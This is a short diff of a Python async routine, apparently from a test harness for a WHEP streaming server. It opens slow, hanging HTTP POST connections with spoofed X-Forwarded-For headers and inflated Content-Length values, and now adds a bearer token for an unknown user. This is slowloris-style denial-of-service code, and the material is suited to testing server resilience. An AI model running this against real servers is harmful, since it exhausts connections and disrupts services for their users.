@@ -112,6 +112,7 @@ async def slow(attack: Attack) -> None:
         header = f"POST /whep/1 HTTP/1.1\r\nHost: {where.netloc}\r\n"
         header += f"X-Forwarded-For: {_from(number)}\r\n"
         if number % 2:
+            header += f"Authorization: Bearer {STRANGER_TOKEN}\r\n"
             header += "Content-Type: application/sdp\r\nContent-Length: 30000\r\n\r\n"
         writer.write(header.encode())
         hanging.append((number, reader, writer))
